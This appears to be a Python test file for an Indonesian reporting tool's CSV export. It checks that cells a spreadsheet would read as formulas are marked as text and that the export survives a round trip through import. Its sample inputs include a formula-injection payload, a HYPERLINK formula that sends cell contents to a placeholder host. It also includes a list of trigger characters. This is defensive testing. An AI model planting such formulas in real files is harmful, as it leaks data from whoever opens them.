"""A CSV export holds no cell a spreadsheet takes for a formula, and imports back as it was.

Excel, LibreOffice and Google Sheets read a CSV cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula: a permasalahan "- Kurangnya SDM" showed as #NAME? (and was lost when the file was
saved again), and a "=HYPERLINK(…)" typed into a report ran when a reviewer opened the export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from lkj_tui.bundled import load_bundled_report
from lkj_tui.export.spreadsheet import as_text
from lkj_tui.importing.csvfile import from_text
from lkj_tui.storage.store import Store
from tests.conftest import run_cli

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")

#: Names a hostile or careless author gives nodes (one line each, as `set name` takes them).
_NAMES = (
    "- Kurangnya SDM pengelola data",
    '=HYPERLINK("http://contoh.invalid/?d="&A1;"Klik")',
    "@SUM(A1:A9)",
    "+62 812 0000 0000",
    "'=sudah bertanda",
)


def _cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def test_csv_export_has_no_formula_and_imports_back(tmp_path: Path) -> None:
    root = tmp_path / "store"
    Store(root, seed=load_bundled_report)
    for n, name in enumerate(_NAMES, 1):
        result = run_cli("set", f"IKU {n}", "name", name, store=root)
        assert result.returncode == 0, result.stderr
    result = run_cli("set", "IKU 1", "realisasi", "-2,5", store=root)
    assert result.returncode == 0, result.stderr

    first = tmp_path / "ekspor.csv"
    result = run_cli("export", "--format", "csv", "-o", str(first), store=root)
    assert result.returncode == 0, result.stderr
    cells = _cells(first.read_bytes())
    formula_like = [c for c in cells if c.startswith(_TRIGGERS) and not _NUMBER.fullmatch(c)]
    assert formula_like == []
    for name in _NAMES:
        assert "'" + name in cells  # marked as text, whole
    assert "-2,5" in cells  # a negative number stays a number

    args = ("--report", "kembali-2023", "--instansi", "Dinas X", "--tahun", "2023")
    result = run_cli("import", str(first), *args, store=root)
    assert result.returncode == 0, result.stderr
    second = tmp_path / "lagi.csv"
    result = run_cli(
        "export", "--format", "csv", "-r", "kembali-2023", "-o", str(second), store=root
    )
    assert result.returncode == 0, result.stderr
    assert second.read_bytes() == first.read_bytes()


@given(st.text(max_size=40))
def test_the_mark_is_taken_off_exactly(text: str) -> None:
    cell = as_text(text)
    assert from_text(cell) == text
    assert not cell.startswith(_TRIGGERS) or _NUMBER.fullmatch(cell)
